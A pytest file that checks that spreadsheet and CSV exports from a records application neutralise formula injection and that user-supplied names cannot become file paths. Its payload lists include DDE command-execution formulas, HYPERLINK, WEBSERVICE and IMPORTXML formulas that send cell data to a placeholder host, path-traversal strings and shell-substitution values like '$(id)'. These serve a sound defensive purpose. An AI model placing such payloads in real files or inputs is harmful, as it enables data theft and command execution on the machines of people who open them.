"""No cell of any file is ever calculated by what opens it (U5), and names come from us (U7)."""

import csv
import io
import re
from types import SimpleNamespace

import pytest
from openpyxl import load_workbook

from foundation.sealing import files as sealed_files
from foundation.workbooks import writing
from reports.exports import cells, files
from reports.tables.base import Column
from reports.views.fetching import name_of
from tests import builders
from tests.conftest import NOON
from tests.reports.conftest import export

SIGNS = "=+-@＝＋－＠"
PAYLOADS = [
    *(f"{sign}1+1" for sign in SIGNS),
    *(f"{blank}=1+1" for blank in ("\t", "\r", "\n", "\0", " ", "\u3000", "\u200b", "\ufeff")),
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid?"&A1,"点这里")',
    '=WEBSERVICE("http://example.invalid")',
    '=IMPORTXML(CONCAT("http://example.invalid/",A1),"//a")',
    '=DDE("cmd";"/C calc";"x")',
    "＝ＣＭＤ|'/C calc'!A0",
    "=1+1\r\n=2+2",
    '"=1+1"',
    '","=1+1',
    '";=1+1',
    "x;=1+1",
    "x\t=1+1",
    "x,=1+1",
    "'=1+1",
    "''=1+1",
    "= 1+1",
    "%0A=1+1",
    "\r\n=1+1",
    "\u00a0=1+1",
    "\x1b=1+1",
    "\u202e=1+1",
    "﹢1+1",
    "−1+1",
    "@@x",
    "+86 16400001234",
    "=" * 40_000,
    "\ud800=1+1",
    "<r>=1+1</r>",
    '<r></r></is></c><c r="B9"><f>1+1</f></c><c r="C9" t="inlineStr"><is><r></r>',
]
COLUMN = Column("words", "词", lambda row, to: row)
STARTS = re.compile(r"^[\s\u200b-\u200f\u202a-\u202e\u2060\ufeff\"]*[=+\-@＝＋－＠]")


def written(form, values, tmp_path):
    """What a file of these cells holds, opened again."""
    key, name = sealed_files.new_key(), files.new_name()
    rows = ([value] for value in values)
    files.write(form, name, key, columns=[COLUMN], rows=rows, watermark=[("表", "词")])
    return b"".join(files.read(name, key))


def test_there_are_enough_payloads():
    assert len(set(PAYLOADS)) >= 40


def test_no_payload_is_a_formula_in_a_workbook(tmp_path):
    sheet = load_workbook(io.BytesIO(written("xlsx", PAYLOADS, tmp_path))).worksheets[0]

    types = {cell.data_type for line in sheet.iter_rows() for cell in line}
    values = [cell.value for line in sheet.iter_rows(min_row=3) for cell in line]
    assert types == {"s"}
    assert len(values) == len(PAYLOADS)
    assert [value for value in values if STARTS.match(value)] == []


def test_no_payload_is_a_formula_in_a_csv_file(tmp_path):
    content = written("csv", PAYLOADS, tmp_path)
    assert content.startswith(b"\xef\xbb\xbf")
    text = content.decode("utf-8-sig")
    lines = list(csv.reader(io.StringIO(text)))

    assert len(lines) == len(PAYLOADS) + 2
    assert [line for line in lines if len(line) != 1 or STARTS.match(line[0])] == []


@pytest.mark.parametrize("separator", [";", "\t"])
def test_neither_is_one_where_another_country_splits_the_line(tmp_path, separator):
    text = written("csv", PAYLOADS, tmp_path).decode("utf-8-sig")
    found = [
        part for line in text.splitlines() for part in line.split(separator) if STARTS.match(part)
    ]
    assert found == []


@pytest.mark.parametrize("form", ["xlsx", "csv"])
def test_a_payload_that_is_not_neutralised_is_noticed(tmp_path, monkeypatch, form):
    monkeypatch.setattr(cells, "for_csv", lambda value: value)
    monkeypatch.setattr(cells, "for_workbook", lambda value: value)
    content = written(form, ["=1+1"], tmp_path)

    if form == "csv":
        assert STARTS.match(content.decode("utf-8-sig").splitlines()[1])
    else:
        cell = load_workbook(io.BytesIO(content)).worksheets[0]["A3"]
        assert STARTS.match(cell.value) and cell.data_type == "s"


def test_words_that_are_not_written_as_words_are_noticed(tmp_path, monkeypatch):
    def guess(sheet, row, column, value, formats):
        sheet._sheet.write(row, column, value)

    monkeypatch.setattr(cells, "for_workbook", lambda value: value)
    monkeypatch.setattr(writing.Sheet, "_put", guess)
    content = written("xlsx", ["=1+1"], tmp_path)

    assert load_workbook(io.BytesIO(content)).worksheets[0]["A3"].data_type == "f"


def test_a_payload_for_a_reason_stays_words(chen, north, wang):
    ready = export(chen, north, why="=1+1 给民政局核对")
    content = b"".join(files.read(ready.file_name, ready.key))

    for sheet in load_workbook(io.BytesIO(content)).worksheets:
        assert {cell.data_type for line in sheet.iter_rows() for cell in line} <= {"s", "n"}


@pytest.mark.parametrize(
    ("typed", "kept"),
    [
        ("16400001234", "'16400001234"),
        ("150299195001020860", "'150299195001020860"),
        ("15029919500102086X", "'15029919500102086X"),
        ("0501", "'0501"),
        ("3-2", "'3-2"),
        ("501", "501"),
        ("王秀兰", "王秀兰"),
    ],
)
def test_digits_that_a_spreadsheet_would_change_stay_text(typed, kept):
    assert cells.for_csv(typed) == kept


def test_numbers_and_days_stay_what_they_are():
    assert [cells.for_csv(value) for value in (-5, NOON.date(), None)] == ["-5", "2026-03-10", ""]
    assert cells.for_workbook(-5) == -5


ODD = [
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "C:\\autoexec.bat",
    "a\0b",
    "con",
    "nul.txt",
    "a/b",
    "a\\b",
    "....//",
    "%2e%2e%2f",
    "\u202egpj.exe",
    "名\r\nX: y",
    "a;b",
    'a"b',
    "a'b",
    "a`b",
    "$(id)",
    "|id",
    "*",
    "?",
    "<x>",
    "~",
    ".",
    "..",
    " ",
    "\n",
    "é",
    "𠀀",
    "a" * 60,
]


def test_no_name_somebody_typed_becomes_the_name_of_a_file():
    names = {}
    for odd in [*ODD, *(f"{name}.xlsx" for name in ODD)]:
        area = SimpleNamespace(name=odd, code="150299020100")
        asked = SimpleNamespace(area=area, ready_at=NOON, table="people", form="xlsx", why=odd)
        names[odd] = name_of(asked)

    assert names == dict.fromkeys(names, "居民名册-150299020100-20260310.xlsx")
    assert len(names) >= 50
    assert re.fullmatch(r"[0-9a-f]{32}\.sealed", files.new_name())


def test_a_file_stays_in_its_folder_whatever_people_are_called(chen, north, home):
    for odd in ODD[:6]:
        builders.make_person(home, odd.replace("\0", "")[:60] or "x")
    north.name = ODD[0]
    north.save()
    ready = export(chen, north, why=f"{ODD[0]} 核对补贴")

    assert [path.name for path in files.folder().iterdir()] == [ready.file_name]
